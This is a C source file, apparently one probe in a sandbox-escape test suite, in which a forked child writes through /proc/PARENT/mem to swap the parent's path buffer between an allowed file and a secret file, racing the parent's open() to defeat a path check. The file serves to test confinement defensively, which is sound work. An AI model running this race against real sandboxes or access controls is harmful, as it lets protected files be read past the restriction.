/* e0105-toctou-proc-mem - argument TOCTOU on open(), by a sibling process
 * writing the path through /proc/PID/mem.
 *
 * Attack: the program forks; the child opens /proc/PARENT/mem and rewrites
 * the parent's path buffer between the allowed file and the secret, while
 * the parent opens and reads the buffer's path.
 * Source: Watson 2007; Garfinkel 2003 (/proc as an indirect path to
 * resources); DESIGN.md "Races and side doors".
 * Usage: e0105-toctou-proc-mem ALLOWED SECRET */
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <sys/wait.h>

#include "escape.h"

static char path[PATH_MAX];

static void flip(pid_t parent, const char *a, const char *b)
{
	char mem[64];
	snprintf(mem, sizeof mem, "/proc/%d/mem", (int)parent);
	int fd = open(mem, O_RDWR | O_CLOEXEC);
	if (fd < 0) {
		esc_show_result("open /proc/PARENT/mem", -1);
		return;
	}
	off_t at = (off_t)(uintptr_t)path;
	struct esc_race r;
	esc_race_init(&r);
	r.tries = -10 * ESC_RACE_TRIES;	/* time-bounded only */
	while (esc_race_go(&r)) {
		if (pwrite(fd, b, strlen(b) + 1, at) < 0 || pwrite(fd, a, strlen(a) + 1, at) < 0) {
			esc_show_result("write to /proc/PARENT/mem", -1);
			return;
		}
	}
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 3, "e0105-toctou-proc-mem ALLOWED SECRET");
	char expect[512];
	if (esc_read_file(argv[1], expect, sizeof expect) < 0)
		esc_die(argv[1]);
	strcpy(path, argv[1]);
	pid_t parent = getpid();
	fflush(NULL);
	pid_t pid = fork();
	if (pid < 0)
		esc_die("fork");
	if (pid == 0) {
		flip(parent, argv[1], argv[2]);
		_exit(0);
	}
	esc_race_open("open of the path a sibling rewrites", path, expect);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	return 0;
}
